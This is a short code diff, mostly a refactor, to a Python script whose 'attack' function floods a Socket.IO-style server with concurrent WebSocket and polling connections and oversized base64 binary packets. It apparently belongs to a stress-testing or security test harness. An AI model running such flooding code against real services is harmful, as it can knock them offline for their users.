@@ -12,6 +12,8 @@ import json
 
 from lines import BINARY, Line, frame, guest, polling, post, web_socket
 
+PROOF = "messages"
+
 ANNOUNCED = b'451-["element:create",{"_placeholder":true,"num":0}]'
 BLOB = bytes(200_000)
 FLOODS = [
@@ -21,8 +23,10 @@ FLOODS = [
 
 
 async def attack(target):
-    await asyncio.gather(*(target.crowd(3, flood, way, text) for text in FLOODS for way in (web_socket, guest)),
-                         target.crowd(10, encoded))
+    await asyncio.gather(
+        *(target.crowd(3, flood, way, text) for text in FLOODS for way in (web_socket, guest)),
+        target.crowd(10, encoded),
+    )
 
 
 async def flood(target, enter, text):
@@ -37,7 +41,8 @@ async def flood(target, enter, text):
 async def encoded(target):
     async with await Line.open(target) as line:
         sid = await polling(target, line)
-        for packets in ("40" + json.dumps({"token": target.token}), ANNOUNCED.decode() + "\x1eb" + base64.b64encode(BLOB[:150_000]).decode()):
-            await line.send(post(sid, packets.encode()))
+        attachment = b"b" + base64.b64encode(BLOB[:150_000])
+        for packets in (b"40" + json.dumps({"token": target.token}).encode(), ANNOUNCED + b"\x1e" + attachment):
+            await line.send(post(sid, packets))
             target.tally("messages")
             await line.response()
